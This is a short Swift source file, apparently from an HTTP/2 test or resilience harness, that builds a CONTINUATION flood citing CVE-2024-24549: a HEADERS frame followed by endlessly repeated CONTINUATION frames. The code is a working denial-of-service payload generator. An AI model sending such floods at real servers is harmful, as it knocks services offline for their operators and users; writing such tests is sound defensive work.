/// One header block that goes on for ever (CVE-2024-24549 and others).
package struct Continuations: Flood {
  /// The flood.
  package init() {}

  package func burst(_ turn: Int) -> [UInt8] {
    let opening =
      RawFrame.preface
      + RawFrame.frame(type: RawFrame.headers, flags: 0, stream: 1, RawFrame.requestFields)
    let field = RawFrame.literalField("x-more", "and more")
    return repeating(turn, opening: opening) { _ in
      RawFrame.frame(type: RawFrame.continuation, flags: 0, stream: 1, field)
    }
  }
}
